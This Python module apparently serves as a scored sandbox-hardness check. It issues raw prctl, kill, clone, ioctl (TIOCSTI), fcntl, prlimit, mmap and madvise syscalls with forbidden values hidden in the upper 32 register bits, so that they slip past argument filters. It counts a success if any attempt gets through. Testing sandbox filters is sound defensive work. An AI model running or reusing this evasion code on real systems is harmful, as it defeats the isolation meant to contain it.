"""storage_index: hides a call's forbidden argument in the half of the register that a filter may not read"""

import ctypes
import os
import platform

from .reward import right_if_any

libc = ctypes.CDLL(None, use_errno=True)
HIGH = 1 << 32
X86_64 = {"prctl": 157, "kill": 62, "clone": 56, "ioctl": 16, "fcntl": 72, "prlimit": 302}
AARCH64 = {"prctl": 167, "kill": 129, "clone": 220, "ioctl": 29, "fcntl": 25, "prlimit": 261}
NUMBERS = {"x86_64": {**X86_64, "mmap": 9, "madvise": 28}}.get(
    platform.machine(), {**AARCH64, "mmap": 222, "madvise": 233}
)
SET_NAME, SET_DUMPABLE, TIOCSTI, F_SETLK = 15, 4, 0x5412, 6
THREAD, SHARED, HUGE = 0x3D0F00, 0x21, 0x40022
LOCK = ctypes.create_string_buffer(32)


def call(name, *arguments):
    values = [ctypes.c_ulong(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(NUMBERS[name], *values)


def attempts():
    yield lambda: call("prctl", HIGH | SET_DUMPABLE, 1, 0, 0, 0) == 0
    yield lambda: call("prctl", SET_NAME << 32 | SET_DUMPABLE, 1, 0, 0, 0) == 0
    yield lambda: call("kill", HIGH | 2, 0) == 0
    yield lambda: call("kill", 2**64 - 1, 0) == 0
    yield lambda: forks(HIGH | 17)
    yield lambda: call("ioctl", 1, HIGH | TIOCSTI, b"x") == 0
    yield lambda: call("fcntl", 1, 1 << 33 | F_SETLK, LOCK) == 0
    yield lambda: call("prlimit", HIGH | 2, 0, 0, LOCK) == 0
    for flags in (SHARED, HUGE):
        yield (
            lambda flags=flags: call("mmap", 0, 4096, 3, HIGH | flags, 2**64 - 1, 0) not in (-1, 0)
        )
    yield lambda: call("madvise", 0, 0, 4 << 32 | 12) == 0


def forks(flags):
    child = call("clone", flags, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return child > 0


storage_index = right_if_any(attempts)
